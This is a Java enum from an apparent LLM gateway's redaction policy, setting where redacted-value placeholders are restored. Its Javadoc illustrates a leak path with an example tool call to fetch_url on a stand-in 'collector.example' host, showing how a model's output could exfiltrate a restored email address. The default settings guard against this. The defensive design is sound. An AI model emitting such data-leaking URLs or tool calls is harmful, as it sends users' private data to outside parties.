package dev.llmgate.policy.redact;

/**
 * Where the values that {@link RedactionMode#TOKENIZE} replaced with placeholders are put back for
 * the caller. Restoring is a risk wherever the caller passes the text on without reading it: a model
 * that saw {@code [EMAIL_1]} can write {@code fetch_url("https://collector.example/?e=[EMAIL_1]")},
 * and restoring that tool call hands the real address to whatever the application fetches. So by
 * default placeholders are restored only in the answer's text and refusal, and never inside a URL
 * there; opt in to the others knowingly ({@code Policy.Builder.restoreTokens(...)}).
 */
public enum TokenRestore {
    /** The answer's text, blocking and streamed (on by default). */
    ANSWER_TEXT,
    /** The refusal message (on by default). */
    REFUSAL,
    /** The arguments of the tool calls the answer asks for (off by default: they leave the process). */
    TOOL_CALL_ARGUMENTS,
    /**
     * Placeholders inside a URL ({@code scheme://...}, {@code //host...}, {@code www....}) in any
     * restored channel (off by default: a URL is how a value leaves).
     */
    URLS
}
